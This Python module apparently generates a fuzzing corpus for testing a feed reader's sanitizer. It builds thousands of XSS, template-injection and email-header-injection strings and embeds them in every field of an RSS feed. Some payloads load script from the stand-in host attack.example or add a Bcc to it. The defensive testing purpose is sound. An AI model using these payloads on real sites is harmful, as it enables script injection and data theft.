"""Strings that try to become markup, script, styles or headers: made from parts, in thousands.

Each calls `alert(1)` where it runs, or loads from `attack.example`, so that a browser tells.
"""

from __future__ import annotations

from hashlib import sha256
from itertools import product
from typing import TYPE_CHECKING
from xml.sax.saxutils import escape

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

RUN = "alert(1)"
REMOTE = "https://attack.example/x"

# What may stand before, so that what follows is taken for markup.
BREAKS = (
    "", '">', "'>", "-->", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</a>",
    "</noscript>", "</template>", "`>", '" ', "' ", '\\">', "&quot;>", "</p><p>", "\n\n", "\u2028",
)  # fmt: skip
TAGS = (
    "<script>{run}</script>", "<ScRiPt src={remote}></sCrIpT>", "<scr<script>ipt>{run}</script>",
    "<img src=x {on}={run}>", "<img/src=x/{on}={run}>", "<img\tsrc=x\n{on}\n=\n'{run}'>",
    "<svg {on}={run}>", "<svg><script>{run}</script></svg>", "<svg/{on}={run}/>",
    "<svg><animate {on}={run} attributeName=x dur=1s>", "<body {on}={run}>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'></use>",
    "<math><mtext><table><mglyph><style><img src=x {on}={run}></style></mglyph></table></mtext>",
    "<math href='javascript:{run}'>x</math>", "<details open {on}={run}>x</details>",
    "<input autofocus {on}={run}>", "<select autofocus {on}={run}>", "<video {on}={run}>",
    "<video><source {on}={run}></video>", "<audio src=x {on}={run}>", "<marquee {on}={run}>",
    "<iframe src='javascript:{run}'></iframe>", "<iframe srcdoc='<script>{run}</script>'>",
    "<object data='javascript:{run}'>", "<embed src='javascript:{run}'>", "<base href={remote}>",
    "<form action='javascript:{run}'><button>x</button></form>", "<isindex {on}={run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<keygen autofocus {on}={run}>",
    "<link rel=stylesheet href={remote}>", "<style>@import '{remote}';</style>",
    "<style>*{{background:url({remote})}}</style>", "<p style='background:url({remote})'>x</p>",
    "<p style='width:expression({run})'>x</p>", "<table background={remote}><td>x",
    "<noscript><p title='</noscript><img src=x {on}={run}>'>", "<template><img src=x {on}={run}>",
    "<x {on}={run} tabindex=1>x</x>", "<a href='javascript:{run}'>x</a>", "<img src={remote}>",
    "<!--><img src=x {on}={run}>-->", "<![CDATA[<img src=x {on}={run}>]]>",
    "<?x <img {on}={run}>?>",
    "<svg><style><img src=x {on}={run}></style></svg>", "<xmp><img src=x {on}={run}></xmp>",
    "<svg></p><style><a id='</style><img src=x {on}={run}>'>", "<p/{on}={run}>x",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "OnFocus", "onmouseover", "onbegin", "ontoggle", "onanimationstart",
    "onpointerenter", "onwheel",
)  # fmt: skip
SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java\nscript:{run}",
    "\x01javascript:{run}", " javascript:{run}", "javascript&colon;{run}", "&#106;avascript:{run}",
    "&#x6A;avascript:{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "javascript://x/%0a{run}",
    "javascript:/*--></title></style></script>*/{run}", "feed:javascript:{run}", "//attack.example",
    "view-source:javascript:{run}", "blob:null/{run}", "file:///etc/passwd", "jar:javascript:{run}",
    'https://a.example/" onmouseover="{run}', "https://a.example/'onfocus='{run}",
    "https://a.example/><script>{run}</script>", "https://a.example/)[x](javascript:{run}",
    "https://a.example/\r\nBcc: x@attack.example", "https://javascript:{run}@attack.example/",
)  # fmt: skip
MARKDOWN = (
    "[x]({url})", "![x]({url})", "<{url}>", '[x]: {url} "t"\n\n[x]', "[![x]({url})]({url})",
    "\\[x]({url})", "[x](<{url}>)", "[a\\](b)]({url})", "# forged\n\n[x]({url})", "`` `[x]({url})",
)  # fmt: skip
TEMPLATES = (
    "{{{{ 7*7 }}}} {run}", "{{% raw %}}{{% endraw %}}{{{{ self }}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "{{# x #}}", "*|MERGE|*", "%(x)s %s {{0}} {{x.y}}",
)  # fmt: skip
HEADERS = (
    "x\r\nBcc: a@attack.example", "x\nContent-Type: text/html\n\n<script>{run}</script>",
    "=?utf-8?q?=0d=0aBcc:_a@attack.example?=", "x\r\n\r\n--=_\r\n", "x\x0bBcc: a@attack.example",
    "x\u2028Bcc: a@attack.example", "x\x00y", "\u202egnp.exe", "\u2066<script>{run}</script>\u2069",
)  # fmt: skip
_ENTITIES = str.maketrans({"<": "&lt;", ">": "&gt;", '"': "&quot;"})


def attacks() -> Iterator[str]:
    """Every string, each once, in the same order."""
    yield from dict.fromkeys(filter(None, _all()))


def _all() -> Iterator[str]:
    for before, tag in product(BREAKS, TAGS):
        for event in EVENTS if "{on}" in tag else EVENTS[:1]:
            yield before + tag.format(run=RUN, remote=REMOTE, on=event)
    for form, scheme in product((*MARKDOWN, "<a href='{url}'>x</a>", "{url}"), SCHEMES):
        yield form.format(url=scheme.format(run=RUN))
    for before, other in product(BREAKS, (*TEMPLATES, *HEADERS)):
        yield before + other.format(run=RUN)
    # Once more in entities, for whoever reads them once too often.
    for tag in TAGS:
        for event in EVENTS:
            once = tag.format(run=RUN, remote=REMOTE, on=event).translate(_ENTITIES)
            yield from (once, once.replace("&", "&amp;"), once.replace(";", ""))


def feed(strings: Sequence[str]) -> bytes:
    """An RSS feed with an attack in each field of each entry, as text and as markup."""
    items = "".join(_item(n, strings[n : n + 5]) for n in range(0, len(strings) - 4, 5))
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>'
        f"<title>The Quay {_xml(strings[0])}</title><link>https://quay.example/</link>"
        f"{items}</channel></rss>"
    ).encode(errors="replace")


def _item(number: int, strings: Sequence[str]) -> str:
    title, summary, content, author, link = strings
    words = _words(number)
    target = link if number % 2 else f"https://quay.example/{number}?q={link}"
    told = escape(content) if number % 3 else content
    more = _words(number + 1_000_000)
    said = f"{words.capitalize()} {more} {told} {_words(number + 2_000_000)}."
    if number % 4 == 0:  # some answer a question, too
        said = f"{words.capitalize()} will spend ${number + 2} million on {more} {told}."
    return (
        f"<item><title>{words.capitalize()} {_xml(title)}</title><guid>{number}</guid>"
        f"<link>{_xml(target)}</link><dc:creator>{_xml(author)}</dc:creator>"
        f"<pubDate>Mon, 23 Nov 2026 05:{number % 60:02d}:00 GMT</pubDate>"
        f"<description>{_xml(summary)}</description>"
        f"<content:encoded>{_xml(f'<p>{said}</p>')}</content:encoded></item>"
    )


def _words(number: int) -> str:
    """Words that no other entry has: they are stories of their own."""
    drawn = sha256(str(number).encode()).digest()
    letters = ["bdfgklmnprstvz"[one % 14] + "aeiou"[one % 5] for one in drawn]
    return " ".join("".join(letters[at : at + 4]) for at in range(0, 16, 4))


def _xml(text: str) -> str:
    """What XML can hold of it."""
    return escape("".join(one for one in text if one in "\t\n\r" or one >= " "))
